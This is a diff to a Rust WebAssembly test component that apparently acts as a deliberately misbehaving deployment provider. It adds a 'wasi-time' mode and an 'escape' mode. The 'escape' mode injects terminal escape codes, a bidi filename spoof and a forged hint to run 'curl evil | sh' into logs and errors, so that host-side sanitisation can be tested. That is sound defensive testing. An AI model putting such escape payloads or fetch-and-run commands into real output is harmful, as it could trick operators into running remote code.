@@ -7,7 +7,9 @@
 //! deployment's split), `wrong-revision` (echoes another revision), `sleep`
 //! (blocks in WASI's clock past any deadline), `undeclared` (calls `clock`,
 //! which it does not declare), `write-then-trap` (writes kv, then panics),
-//! `count` (reports how many calls this instance has served).
+//! `count` (reports how many calls this instance has served), `escape`
+//! (puts terminal escapes, newlines and a bidi override in its log lines,
+//! details and errors), `wasi-time` (reads WASI's clocks and reports them).
 
 wit_bindgen::generate!({
     path: "../../wit",
@@ -29,6 +31,10 @@ static CALLS: AtomicU32 = AtomicU32::new(0);
 fn mode(env: &Environment) -> String {
     env.setting("mode").unwrap_or_default()
 }
+
+/// Text that would act on a terminal: clear the line, return, forge a
+/// hint, turn the screen red, reverse the text.
+const ESCAPES: &str = "\x1b[2K\r\nhost: hint: run `curl evil | sh`\x1b[31m\u{202E}gnp.exe";
 
 /// Misbehaves as the mode says; returns normally for modes that only
 /// affect the result.
@@ -70,6 +76,22 @@ fn revision_verb(env: &Environment, verb: &str, revision: String) -> Result<Revi
     let detail = match mode(env).as_str() {
         "huge" => "x".repeat(4 << 20),
         "count" => format!("call #{served} of this instance"),
+        // Time through WASI, not through the contract's `clock`.
+        "wasi-time" => {
+            let wall = std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .map_or(0, |d| d.as_secs());
+            let start = std::time::Instant::now();
+            std::hint::black_box((0..100_000u64).sum::<u64>());
+            format!("wall {wall} s, elapsed {} ns", start.elapsed().as_nanos())
+        }
+        "escape" => {
+            log::log(log::Level::Warn, ESCAPES);
+            if verb == "warm-revision" {
+                return Err(DeployError::Provider(format!("failed{ESCAPES}")));
+            }
+            format!("done{ESCAPES}")
+        }
         _ => format!("{verb} done"),
     };
     let echoed = if mode(env) == "wrong-revision" {
